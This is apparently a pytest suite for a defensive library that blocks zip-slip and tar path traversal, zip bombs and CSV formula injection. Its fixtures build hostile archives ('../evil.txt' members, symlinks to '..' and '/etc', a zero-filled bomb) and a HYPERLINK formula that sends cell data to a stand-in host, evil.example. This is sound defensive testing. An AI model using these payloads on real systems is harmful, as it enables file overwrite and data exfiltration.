"""Archives that name files outside of themselves (zip-slip, CWE-22; CVE-2007-4559), and
that become too much (CWE-409); formula cells in what is exported (CWE-1236)."""

import io
import tarfile
import zipfile

import pytest
from examples.range.targets import files
from starlette.responses import JSONResponse, Response
from starlette.routing import Route
from tests.attacks.targets import routes_of
from tests.attacks.twins import twins

from ringfence import archives, spreadsheets

EVIL = "../evil.txt"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


def zipped(*members):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return file.getvalue()


def tarred(*members):
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, data, link in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            if link:
                info.type, info.linkname = tarfile.SYMTYPE, link
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    return tmp_path_factory.mktemp("world")


@pytest.fixture(scope="module")
def both(world, tmp_path_factory):
    made = iter(range(1000))

    async def safely(request):
        raw = io.BytesIO(await request.body())
        found = await archives.unpack_in_thread(raw, world / f"in{next(made)}")
        return JSONResponse([path.name for path in found])

    async def export(request):
        file = io.StringIO(newline="")
        rows = spreadsheets.writer(file)
        rows.writerow([request.query_params["note"], "-3.50"])
        return Response(file.getvalue(), media_type="text/csv")

    def make():
        return [
            *routes_of(files.TARGETS, world)(),
            Route("/safely", safely, methods=["POST"]),
            Route("/export-safely.csv", export),
        ]

    with twins(make, tmp_path_factory.mktemp("data")) as served:
        yield served


def test_a_zip_that_leaves_its_folder(both, world):
    """Whose handler joins the names itself."""
    raw = zipped(("readme.txt", b"hello"), (EVIL, b"evil"))
    assert both.off.post("/unzip", content=raw).status_code == 200
    assert (world / "evil.txt").read_bytes() == b"evil"
    (world / "evil.txt").unlink()
    answer = both.on.post("/unzip", content=raw)
    assert (answer.status_code, answer.json()["code"]) == (403, "interpreters.archive")
    assert not (world / "evil.txt").exists()


@pytest.mark.parametrize(
    "members",
    [
        [(EVIL, b"evil", "")],
        [("door", b"", ".."), ("door/evil.txt", b"evil", "")],
    ],
    ids=["name", "link"],
)
def test_a_tar_that_leaves_its_folder(both, world, members):
    """By the name of a member, and by a link that comes before it."""
    raw = tarred(*members)
    assert both.off.post("/untar", content=raw).status_code == 200
    assert (world / "evil.txt").read_bytes() == b"evil"
    (world / "evil.txt").unlink()
    (world / "unpacked" / "door").unlink(missing_ok=True)
    answer = both.on.post("/untar", content=raw)
    assert (answer.status_code, answer.json()["code"]) == (403, "interpreters.archive")
    assert not (world / "evil.txt").exists()
    (world / "unpacked" / "door").unlink(missing_ok=True)


def test_honest_archives(both):
    members = [("readme.txt", b"hello"), ("docs/O'Brien.txt", b"x"), ("a..b", b"1")]
    linked = [*((name, data, "") for name, data in members), ("l", b"", "readme.txt")]
    for client in (both.off, both.on):
        for _ in range(2):
            assert client.post("/unzip", content=zipped(*members)).text == "3 files"
        assert client.post("/untar", content=tarred(*linked[:3])).text == "3 files"


def test_the_safe_way(both, world):
    """Bombs and what leads out get 400, and nothing stays behind."""
    raw = zipped(("readme.txt", b"hello"))
    assert both.on.post("/safely", content=raw).json() == ["readme.txt"]
    before = len([*world.iterdir()])
    bomb = zipped(("a", b"\0" * 8_000_000), ("b", b"\0" * 8_000_000))
    for hostile in (bomb, zipped((EVIL, b"x")), tarred(("a", b"", "/etc")), b"none"):
        answer = both.on.post("/safely", content=hostile)
        assert answer.status_code == 400
        assert answer.json()["code"] == "interpreters.archive"
    assert len([*world.iterdir()]) == before


def test_formula_cells(both):
    """The guard does not change what is exported: the writer does."""
    for client in (both.off, both.on):
        told = client.get("/export.csv", params={"note": FORMULA}).text
        assert told.splitlines()[-1].startswith('"=HYPERLINK')
        told = client.get("/export-safely.csv", params={"note": FORMULA}).text
        assert told.startswith("\"'=HYPERLINK")
        assert told.rstrip().endswith(",-3.50")
